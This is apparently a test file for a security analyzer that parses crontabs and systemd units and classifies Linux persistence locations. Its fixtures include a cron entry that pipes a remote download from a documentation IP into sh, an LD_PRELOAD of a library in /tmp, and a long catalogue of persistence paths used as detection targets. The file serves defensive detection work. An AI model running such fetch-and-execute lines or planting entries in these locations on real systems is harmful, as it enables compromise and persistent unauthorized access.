import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseCrontab } from '#shared/analyzers/persistence/crontab.ts';
import { stripRoot } from '#shared/analyzers/persistence/root-prefix.ts';
import { persistenceTarget, TARGET_NEEDLES } from '#shared/analyzers/persistence/targets.ts';
import { parseUnit } from '#shared/analyzers/persistence/unit-file.ts';

const commands = (text: string, system = false): readonly string[] =>
  parseCrontab(text, system).map(({ command }) => command);

test('reads crontab lines by their schedule and leaves the rest', () => {
  const text = [
    '# comment',
    'SHELL=/bin/sh',
    'MAILTO=""',
    '',
    '*/5 * * * * curl http://198.51.100.9/a | sh',
    '@reboot /opt/app/start.sh',
    '0 4 1,15 jan-mar mon-fri /usr/bin/report  --all',
    '5~20 2 * * sun backup',
    '@never x',
    '* * * * /too/few/fields',
    '61x * * * * /no/field',
  ].join('\n');
  assert.deepEqual(commands(text), [
    'curl http://198.51.100.9/a | sh',
    '/opt/app/start.sh',
    '/usr/bin/report  --all',
    'backup',
  ]);
});

test('takes the user of a system crontab for no command', () => {
  assert.deepEqual(parseCrontab('17 * * * * root cd / && run-parts /etc/cron.hourly', true), [
    { schedule: '17 * * * *', user: 'root', command: 'cd / && run-parts /etc/cron.hourly' },
  ]);
  assert.deepEqual(commands('@hourly deploy /srv/a', true), ['/srv/a']);
  assert.deepEqual(commands('* * * * * root /tmp/x'), ['/tmp/x'], 'a user in a user crontab is known by its name');
  assert.deepEqual(commands('* * * * * rsync a b'), ['rsync a b']);
});

test('reads line ends that are written out, as echo -e and printf take them', () => {
  assert.deepEqual(commands('SHELL=/bin/sh\\n* * * * * a\\n@daily b\\n'), ['a', 'b']);
  assert.deepEqual(commands('* * * * * a\r\n@daily b\r\n'), ['a', 'b']);
});

test('gives back every entry that is written into a crontab', () => {
  const field = fc.oneof(
    fc.constant('*'),
    fc.integer({ min: 0, max: 59 }).map(String),
    fc.integer({ min: 1, max: 30 }).map((step) => `*/${step}`),
    fc.constantFrom('1-5', '0,30', 'mon', 'Jan-Mar', '8-18/2'),
  );
  const schedule = fc.oneof(
    fc.tuple(field, field, field, field, field).map((fields) => fields.join(' ')),
    fc.constantFrom('@reboot', '@daily', '@hourly'),
  );
  const command = fc.stringMatching(/^\/[a-z/]{1,20}( [a-z]{1,5}){0,3}$/);
  fc.assert(
    fc.property(fc.array(fc.tuple(schedule, command), { maxLength: 8 }), (entries) => {
      const text = `# made up\n${entries.map(([when, what]) => `${when}\t${what}`).join('\n')}\n`;
      assert.deepEqual(
        parseCrontab(text).map((one) => [one.schedule, one.command]),
        entries,
      );
    }),
  );
});

test('reads what a unit starts, over continued lines and without prefixes', () => {
  const text = [
    '[Unit]',
    'Description=Web',
    '; ExecStart=/no',
    '[Service]',
    'ExecStartPre=-/usr/bin/mkdir /run/web',
    'ExecStart=@/usr/bin/web \\',
    '  --port 80 \\',
    '  --user web',
    'Environment="LD_PRELOAD=/tmp/a.so"',
    'ExecStop=',
  ].join('\n');
  assert.deepEqual(parseUnit(text), {
    commands: ['/usr/bin/mkdir /run/web', '/usr/bin/web --port 80 --user web'],
    environment: ['"LD_PRELOAD=/tmp/a.so"'],
    timer: false,
  });
  assert.equal(parseUnit('[Timer]\nOnCalendar=*:0/5')?.timer, true);
  assert.equal(parseUnit('just a = text'), undefined);
});

test('gives back every command that is written into a unit', () => {
  const command = fc.stringMatching(/^\/[a-z/]{1,20}( [a-z-]{1,8}){0,4}$/);
  fc.assert(
    fc.property(fc.array(command, { minLength: 1, maxLength: 5 }), fc.boolean(), (all, folded) => {
      const lines = all.map((one) => `ExecStart=${folded ? one.replaceAll(' ', ' \\\n ') : one}`);
      assert.deepEqual(parseUnit(`[Service]\n${lines.join('\n')}\n`)?.commands, all);
    }),
  );
});

test('neither parser throws, and hostile text takes no more than its length', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('* '.repeat(50_000), '\\\n'.repeat(50_000), 'ExecStart=\\\n'.repeat(20_000), '@'.repeat(100_000)),
  );
  fc.assert(
    fc.property(hostile, fc.boolean(), (text, system) => {
      assert.ok(parseCrontab(text, system).length <= 2000);
      assert.ok((parseUnit(text)?.commands.length ?? 0) <= 2000);
    }),
  );
});

/** A path of each mechanism, and its kind. */
const PATHS: readonly (readonly [string, string])[] = [
  ['/var/spool/anacron/cron.daily', 'cron'],
  ['/var/spool/cron/atspool/a00001018f2a3c', 'at'],
  ['/var/spool/at/spool/a00001018f2a3c', 'at'],
  ['/etc/crontab', 'cron'],
  ['/etc/anacrontab', 'cron'],
  ['/etc/cron.d/.x', 'cron'],
  ['/etc/cron.weekly/a', 'cron'],
  ['/etc/periodic/15min/a', 'cron'],
  ['/etc/crontabs/root', 'cron'],
  ['/var/spool/cron/root', 'cron'],
  ['/var/spool/cron/tabs/root', 'cron'],
  ['/var/spool/cron/crontabs/root', 'cron'],
  ['/var/spool/cron/crontabs/tmp.Ab3xYz', 'cron'],
  ['/var/spool/cron/#tmp.web-1.example.XXXXa1b2c3', 'cron'],
  ['/var/spool/at/a00001018e1f2a', 'at'],
  ['/var/spool/cron/atjobs/a0000101', 'at'],
  ['/lib/systemd/system/a.service', 'unit'],
  ['/usr/lib/systemd/system/a.path', 'unit'],
  ['/etc/systemd/system/a.timer', 'unit'],
  ['/etc/systemd/system/docker.service.d/x.conf', 'unit'],
  ['/etc/systemd/system-generators/a', 'unit'],
  ['/usr/lib/systemd/user-environment-generators/a', 'unit'],
  ['/root/.config/systemd/user/a.service', 'unit'],
  ['/etc/systemd/system/multi-user.target.wants/a.service', 'unit_link'],
  ['/etc/rc.local', 'rc'],
  ['/etc/rc.common', 'rc'],
  ['/etc/rc.d/rc.local', 'rc'],
  ['/etc/rc.d/init.d/a', 'rc'],
  ['/etc/rc3.d/S99a', 'rc'],
  ['/etc/init.d/a', 'rc'],
  ['/etc/inittab', 'rc'],
  ['/etc/local.d/a.start', 'rc'],
  ['/etc/runlevels/default/a', 'rc'],
  ['/etc/boot.local', 'rc'],
  ['/etc/profile', 'profile'],
  ['/etc/profile.d/a.sh', 'profile'],
  ['/etc/bashrc', 'profile'],
  ['/etc/zshrc', 'profile'],
  ['/etc/zsh/zprofile', 'profile'],
  ['/etc/environment', 'profile'],
  ['/etc/csh.cshrc', 'profile'],
  ['/etc/skel/.bashrc', 'profile'],
  ['/home/ec2-user/.bash_logout', 'profile'],
  ['/root/.zlogin', 'profile'],
  ['/root/.zshrc', 'profile'],
  ['/root/.login', 'profile'],
  ['/root/.tcshrc', 'profile'],
  ['/root/.config/fish/config.fish', 'profile'],
  ['~/.profile', 'profile'],
  ['$HOME/.bashrc', 'profile'],
  ['/etc/ld.so.preload', 'preload'],
  ['/etc/ld.so.conf.d/a.conf', 'preload'],
  ['/root/.ssh/authorized_keys2', 'ssh_key'],
  ['/data/redis/.ssh/authorized_keys', 'ssh_key'],
  ['/etc/ssh/sshd_config.d/9.conf', 'sshd'],
  ['/etc/sudoers.d/a', 'sudoers'],
  ['/etc/passwd', 'account'],
  ['/etc/gshadow', 'account'],
  ['/etc/udev/rules.d/9.rules', 'udev'],
  ['/etc/xdg/autostart/a.desktop', 'autostart'],
  ['/etc/update-motd.d/00-a', 'motd'],
  ['/etc/apt/apt.conf.d/9', 'package_hook'],
  ['/etc/yum/pluginconf.d/a.conf', 'package_hook'],
  ['/usr/lib/python3/dist-packages/a.pth', 'package_hook'],
  ['/usr/lib/python3.11/sitecustomize.py', 'package_hook'],
  ['/etc/NetworkManager/dispatcher.d/a', 'package_hook'],
  ['/etc/network/if-up.d/a', 'package_hook'],
  ['/etc/dhcp/dhclient-exit-hooks.d/a', 'package_hook'],
  ['/etc/pam.d/sshd', 'login_module'],
  ['/lib/x86_64-linux-gnu/security/pam_unix.so', 'login_module'],
  ['/etc/modules', 'kernel_module'],
  ['/etc/modules-load.d/a.conf', 'kernel_module'],
  ['/etc/kubernetes/manifests/a.yaml', 'manifest'],
  ['/var/lib/cloud/scripts/per-boot/a', 'rc'],
  ['/var/lib/cloud/scripts/per-instance/a.sh', 'rc'],
  ['/var/lib/cloud/scripts/per-once/a', 'rc'],
  ['/etc/supervisor/conf.d/a.conf', 'supervisor'],
  ['/etc/supervisor/supervisord.conf', 'supervisor'],
  ['/etc/supervisord.d/a.ini', 'supervisor'],
  ['/etc/supervisord.conf', 'supervisor'],
  ['/root/.ssh/rc', 'profile'],
  ['/data/redis/.ssh/rc', 'profile'],
  ['/etc/ssh/sshrc', 'profile'],
  ['/home/a/.xprofile', 'profile'],
  ['/home/a/.xinitrc', 'profile'],
  ['/home/a/.xsession', 'profile'],
  ['/root/.xsessionrc', 'profile'],
  ['/etc/X11/Xsession.d/99a', 'profile'],
  ['/etc/X11/xinit/xinitrc.d/a.sh', 'profile'],
  ['/etc/X11/xinit/xinitrc', 'profile'],
  ['/etc/bash_completion.d/a', 'profile'],
  ['/usr/share/bash-completion/completions/a', 'profile'],
  ['/root/.bash_completion', 'profile'],
  ['/usr/share/systemd/user/a.service', 'unit'],
  ['/usr/local/share/systemd/user/a.timer', 'unit'],
  ['/etc/xdg/systemd/user/a.service', 'unit'],
  ['/var/spool/fcron/root', 'cron'],
  ['/etc/modprobe.d/a.conf', 'kernel_module'],
  ['/etc/logrotate.d/a', 'logrotate'],
];

test('knows the mechanism behind each path, and has a needle for it', () => {
  for (const [path, kind] of PATHS) {
    assert.equal(persistenceTarget(path)?.kind, kind, path);
    assert.ok(
      TARGET_NEEDLES.some((needle) => path.toLowerCase().includes(needle)),
      `no needle: ${path}`,
    );
  }
});

test('leaves neighbours of these paths, and what schedulers write while they run', () => {
  for (const path of [
    '/etc/cron.allow',
    '/etc/cron.d',
    '/etc/crontab.bak',
    '/var/spool/cron/lastrun/cron.daily',
    '/var/spool/cron/crontabs/cron.update',
    '/var/spool/anacron',
    '/var/spool/cron/atjobs',
    '/var/spool/cron/atspool',
    '/var/spool/at/.SEQ',
    '/run/systemd/transient/run-u1.service',
    '/run/systemd/generator.late/a.service',
    '/etc/systemd/journald.conf',
    '/etc/profile.bak',
    '/home/a/profile',
    '/root/.ssh/known_hosts',
    '/etc/ssh/ssh_config',
    '/etc/passwd-',
    '/etc/cron.d/.sync.swp',
    '/etc/cron.d/4913',
    '/var/lib/dpkg/info/cron.list',
    '/var/lib/cloud/instance/scripts/part-001',
    '/var/lib/cloud/scripts/per-boot',
    '/var/log/supervisor/supervisord.log',
    '/home/a/.xsession-errors',
    '/home/a/.ssh/config',
    '/etc/modprobe.d/README',
    '/etc/logrotate.conf',
    '/var/lib/logrotate/status',
  ]) {
    assert.equal(persistenceTarget(path), undefined, path);
  }
});

test('names a drop-in after its unit, and a temporary crontab not at all', () => {
  assert.equal(persistenceTarget('/etc/systemd/system/docker.service.d/x.conf')?.name, 'docker.service');
  assert.equal(persistenceTarget('/var/spool/cron/#tmp.web-1.XXXXa1b2c3')?.temporary, true);
  assert.equal(persistenceTarget('/var/spool/cron/crontabs/tmp.Ab3xYz')?.temporary, true);
  assert.equal(persistenceTarget('/var/spool/cron/root')?.temporary, false);
  assert.equal(persistenceTarget('/etc/cron.d/#tmp.x')?.temporary, false);
});

test('takes mounts of the host off a path, and nothing else', () => {
  for (const [path, expected] of [
    ['/host/etc/crontab', '/etc/crontab'],
    ['/hostfs/var/spool/cron/root', '/var/spool/cron/root'],
    ['/rootfs//etc/./cron.d/a', '/etc/cron.d/a'],
    ['/mnt/etc/crontab', '/etc/crontab'],
    ['/mnt/root/etc/crontab', '/etc/crontab'],
    ['/mnt/root/.ssh/authorized_keys', '/root/.ssh/authorized_keys'],
    ['/proc/1/root/etc/crontab', '/etc/crontab'],
    ['/proc/self/root/etc/crontab', '/etc/crontab'],
    ['/etc/cron.d/../crontab', '/etc/crontab'],
    ['/proc/1/environ', '/proc/1/environ'],
    ['/mnt/data/a', '/mnt/data/a'],
    ['/host/data', '/host/data'],
    ['~/.profile', '~/.profile'],
    ['.ssh/authorized_keys', '.ssh/authorized_keys'],
  ] as const) {
    assert.equal(stripRoot(path).path, expected);
  }
});
